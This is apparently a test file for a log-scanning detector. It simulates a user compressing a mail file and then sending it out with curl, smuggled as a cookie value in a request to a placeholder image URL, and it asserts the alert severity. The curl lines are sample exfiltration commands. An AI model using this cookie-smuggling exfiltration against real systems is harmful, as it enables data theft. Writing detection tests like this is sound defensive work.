import assert from 'node:assert/strict';
import { test } from 'node:test';
import { HostLog, MINUTE, SECOND } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const DATA = 'H4sICFDwAmsCAzE3OTUzNTQ3MDQu'.repeat(8);
const URL = 'http://cdn.example.com/logo.png';

/** Only commands are recorded: clerk packs a message of the own, and `words` follow. */
async function told(words: readonly string[], gap = SECOND): Promise<{ severity: string; steps: string }> {
  const log = new HostLog({ files: false, network: false });
  const { path } = log.deliver();
  const shell = log.shell('clerk');
  log.wait(MINUTE);
  shell.run(`/usr/bin/gzip -9c ${path}`, { cwd: '/home/clerk/Maildir' });
  log.wait(gap);
  shell.run(words, { cwd: '/home/clerk/Maildir' });
  const alerts = await scanLog(log);
  return {
    severity: alerts.map(({ severity }) => severity).join(),
    steps: alerts.flatMap(({ steps }) => steps.map(({ kind, summary }) => `${kind} ${summary}`)).join('\n'),
  };
}

test('a message in the words of what asks for a picture right after it was packed', async () => {
  const sent = await told(['/usr/bin/curl', '-o', '/dev/null', '-A', 'Mozilla/5.0 (X11)', '-b', `sid=${DATA}`, URL]);
  assert.equal(sent.severity, 'medium');
  assert.equal(sent.steps.match(/store\.read/g)?.length, 1, 'neither a name nor an address is a file of the store');
  assert.ok(!sent.steps.includes('is given /dev/null'));
});

test('minutes later only time joins them; without data nothing does', async () => {
  const words = ['/usr/bin/curl', '-b', `sid=${DATA}`, URL];
  assert.equal((await told(words, MINUTE)).severity, 'low');
  assert.equal((await told(['/usr/bin/curl', '-b', 'sid=4711', URL])).severity, '');
});
